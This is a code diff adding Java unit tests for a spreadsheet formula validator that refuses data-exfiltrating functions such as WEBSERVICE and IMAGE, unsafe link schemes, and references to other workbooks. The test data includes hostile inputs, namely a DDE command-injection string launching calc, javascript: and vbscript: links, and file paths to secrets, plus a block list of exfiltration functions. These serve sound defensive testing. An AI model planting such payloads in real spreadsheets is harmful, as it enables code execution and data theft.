@@ -49,6 +49,66 @@ class CellRangeAndFormulasTest {
         assertThatThrownBy(() -> Formulas.requireSafe("=", "x")).hasMessageContaining("not a formula");
     }
 
+    @ParameterizedTest
+    @ValueSource(strings = {"IMAGE", "_xlfn.IMAGE", "image", "STOCKHISTORY", "_xlfn.TRANSLATE", "DETECTLANGUAGE",
+        "COPILOT", "_xlfn._xlws.PY", "SQL.REQUEST", "WEBSERVICE"})
+    void functionsThatSendDataOutAreRefusedByName(String name) {
+        assertThatThrownBy(() -> Formulas.requireSafeFunction(name, "sheet 'S', cell A1"))
+                .isInstanceOf(InvalidInputException.class).hasMessageStartingWith("sheet 'S', cell A1: ")
+                .hasMessageContaining("() is not allowed");
+        assertThatThrownBy(() -> Formulas.requireSafe("=" + name + "(\"http://x/\"&A1)", "cell A1"))
+                .isInstanceOf(InvalidInputException.class);
+    }
+
+    @Test
+    void theWordImageInsideTextIsNoCall() {
+        assertThat(Formulas.requireSafe("=\"IMAGE(\"&A1", "x").expression()).isEqualTo("\"IMAGE(\"&A1");
+        Formulas.requireSafeFunction("IMAGES", "x");
+        Formulas.requireSafeFunction("HYPERLINK", "x");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"https://example.com/a?b=1", "http://intranet/x", "HTTPS://EXAMPLE.COM", "mailto:a@b.org",
+        "#Sheet2!A1", "#'My Sheet'!B2", " https://example.com"})
+    void linksToTheWebMailOrThisWorkbookAreAllowed(String target) {
+        Formulas.requireSafeLink(target, "x");
+        assertThat(Formulas.isSafeLinkStart(target)).isTrue();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"file:///C:/secret.txt", "FILE://server/share", "\\\\host\\share\\doc.xlsx",
+        "//host/share", "C:\\Users\\me\\a.xlsx", "javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,x",
+        "vbscript:x", "ftp://x", "other.xlsx", "#[other.xlsx]Sheet1!A1", "#'C:\\x\\[a.xlsx]S'!A1", ""})
+    void linksAnywhereElseAreRefused(String target) {
+        assertThatThrownBy(() -> Formulas.requireSafeLink(target, "sheet 'S', cell C3"))
+                .isInstanceOf(InvalidInputException.class).hasMessageStartingWith("sheet 'S', cell C3: ");
+    }
+
+    @Test
+    void aComputedLinkMayOnlyStartWithAWholeSafeScheme() {
+        assertThat(Formulas.isSafeLinkStart("https://example.com/?q=")).isTrue();
+        assertThat(Formulas.isSafeLinkStart("#")).isTrue();
+        assertThat(Formulas.isSafeLinkStart("http")).isFalse();
+        assertThat(Formulas.isSafeLinkStart("fi")).isFalse();
+        assertThat(Formulas.isSafeLinkStart("\\\\")).isFalse();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"A1", "Sheet2!B3", "'My Sheet'!A1:B2", "R1C1", "Table1[Amount]", "Rate", "A"})
+    void textForIndirectWithinTheWorkbookIsAllowed(String text) {
+        Formulas.requireSafeReferenceText(text, "x");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"[other.xlsx]Sheet1!A1", "'[other.xlsx]Sheet1'!A1", "'C:\\x\\[a.xlsx]S'!A1",
+        "\\\\host\\share\\[a.xlsx]S!A1", "le://", "https://x/[a.xlsx]S!A1", "=[1]S!A1", "cmd|'/c calc'!A0", "["})
+    void textForIndirectNamingAnotherWorkbookOrFileIsRefused(String text) {
+        assertThatThrownBy(() -> Formulas.requireSafeReferenceText(text, "sheet 'S', cell D4"))
+                .isInstanceOf(InvalidInputException.class)
+                .hasMessageStartingWith("sheet 'S', cell D4: the text '")
+                .hasMessageContaining("another workbook or a file");
+    }
+
     @Test
     void cellValuesDisplayAndRefuseNonFiniteNumbers() {
         assertThat(new CellValue.Number(3).display()).isEqualTo("3");
